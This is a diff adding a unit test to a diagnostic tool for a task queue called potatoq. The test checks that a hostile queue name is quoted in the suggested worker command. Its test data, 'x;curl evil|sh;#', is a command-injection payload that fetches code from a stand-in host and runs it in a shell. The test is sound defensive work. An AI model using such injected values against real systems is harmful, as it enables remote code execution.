@@ -101,6 +101,11 @@ describe('diagnosePotatoq', () => {
     expect(blind.unknown).toContainEqual({ check: 'no-consumer', why: 'no heartbeats here' });
   });
 
+  it('quotes the queue name in the worker command it suggests, so a hostile name stays one word', () => {
+    const d = diagnosePotatoq(facts({ queues: [queue('x;curl evil|sh;#', 2, { consumers: 0 })] }));
+    expect(d.flags[0]!.can).toContain("potatoq worker -Q 'x;curl evil|sh;#'");
+  });
+
   it("says a poison head can be revoked only where revoke is on, with the broker's reason otherwise", () => {
     const blockedBy = { id: 'p', task: 'x', foreign: 'celery-v2', system: 'potatoq', reason: 'This is a Celery message' };
     const q = [queue('q', 1, { blockedBy })];
